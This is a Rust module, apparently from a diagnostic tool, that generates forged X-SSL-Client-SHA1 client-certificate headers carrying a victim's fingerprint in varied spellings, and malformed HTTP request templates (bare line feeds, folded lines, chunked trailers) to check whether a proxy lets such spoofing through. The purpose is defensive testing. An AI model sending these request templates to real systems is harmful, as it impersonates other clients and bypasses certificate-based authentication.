//! How the doctor writes forged headers: in every spelling, and in requests that one reader takes apart differently from
//! another. The headers themselves are `wire::forged`'s.

use crate::cli::wire::{Header, Victim};

/// Another way to write all of them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Spelling {
    Lower,
    Upper,
    Underscores,
    FirstUnderscore,
    LastUnderscore,
    Twice,
    Empty,
    EmptyThenForged,
    UpperHex,
}

impl Spelling {
    pub(super) const ALL: [Self; 9] = [
        Self::Lower,
        Self::Upper,
        Self::Underscores,
        Self::FirstUnderscore,
        Self::LastUnderscore,
        Self::Twice,
        Self::Empty,
        Self::EmptyThenForged,
        Self::UpperHex,
    ];

    pub(super) const fn words(self) -> &'static str {
        match self {
            Self::Lower => "all names in lower case",
            Self::Upper => "all names in upper case",
            Self::Underscores => "all names with underscores",
            Self::FirstUnderscore => "all names with one underscore at the first dash",
            Self::LastUnderscore => "all names with one underscore at the last dash",
            Self::Twice => "all headers twice",
            Self::Empty => "all headers empty",
            Self::EmptyThenForged => "all headers empty, then forged",
            Self::UpperHex => "all headers with upper-case hex",
        }
    }

    /// This header in this spelling.
    pub(super) fn of(self, (name, value): &Header) -> Vec<Header> {
        let one = |name: String| vec![(name, value.clone())];
        let empty = || (name.clone(), String::new());
        match self {
            Self::Lower => one(name.to_lowercase()),
            Self::Upper => one(name.to_uppercase()),
            Self::Underscores => one(name.replace('-', "_")),
            Self::FirstUnderscore => one(name.replacen('-', "_", 1)),
            Self::LastUnderscore => {
                one(name.rsplit_once('-').map_or_else(|| name.clone(), |(before, last)| format!("{before}_{last}")))
            }
            Self::Twice => vec![(name.clone(), value.clone()); 2],
            Self::Empty => vec![empty()],
            Self::EmptyThenForged => vec![empty(), (name.clone(), value.clone())],
            Self::UpperHex if value.len() == 40 => vec![(name.clone(), value.to_uppercase())],
            Self::UpperHex => one(name.clone()),
        }
    }
}

/// Requests that are not quite HTTP/1.1: what was done, and how. `{path}`, `{host}` and `{forged}`, which is a fingerprint
/// header with the victim's, are filled in.
pub(super) const ODD_REQUESTS: [(&str, &str); 8] = [
    ("a bare line feed before a forged header", "GET {path} HTTP/1.1\r\nHost: {host}\r\nX-A: b\n{forged}\r\n"),
    ("a bare carriage return before a forged header", "GET {path} HTTP/1.1\r\nHost: {host}\r\nX-A: b\r{forged}\r\n"),
    ("a forged header on a folded line", "GET {path} HTTP/1.1\r\nHost: {host}\r\nX-A: b\r\n {forged}\r\n"),
    ("a forged header behind a blank, first", "GET {path} HTTP/1.1\r\n {forged}Host: {host}\r\n\r\n"),
    ("a blank before the colon of a forged header", "GET {path} HTTP/1.1\r\nHost: {host}\r\n{forged-blank}\r\n"),
    ("an absolute address and a forged header", "GET https://{host}{path} HTTP/1.1\r\nHost: {host}\r\n{forged}\r\n"),
    ("HTTP/1.0 and a forged header", "GET {path} HTTP/1.0\r\nHost: {host}\r\n{forged}\r\n"),
    (
        "a forged header in the trailer",
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n{forged}\r\n",
    ),
];

/// A request of [`ODD_REQUESTS`]; the host may bring further lines.
pub(super) fn odd_request(victim: &Victim, template: &str, (host, more): (&str, &str), path: &str) -> String {
    template
        .replace("{path}", path)
        .replace("Host: {host}\r\n", &format!("Host: {host}\r\n{more}"))
        .replace("{host}", host)
        .replace("{forged}", &format!("X-SSL-Client-SHA1: {}\r\n", victim.sha1))
        .replace("{forged-blank}", &format!("X-SSL-Client-SHA1 : {}\r\n", victim.sha1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_header_has_as_many_spellings_as_readers_may_fold_into_one() {
        let header = ("X-SSL-Client-SHA1".to_owned(), "ab".repeat(20));
        let names = |spelling: Spelling| spelling.of(&header).into_iter().map(|(name, _)| name).collect::<Vec<_>>();
        assert_eq!(names(Spelling::Underscores), ["X_SSL_Client_SHA1"]);
        assert_eq!(names(Spelling::FirstUnderscore), ["X_SSL-Client-SHA1"]);
        assert_eq!(names(Spelling::LastUnderscore), ["X-SSL-Client_SHA1"]);
        assert_eq!(names(Spelling::Twice).len(), 2);
        assert_eq!(Spelling::UpperHex.of(&header)[0].1, "AB".repeat(20));
    }
}
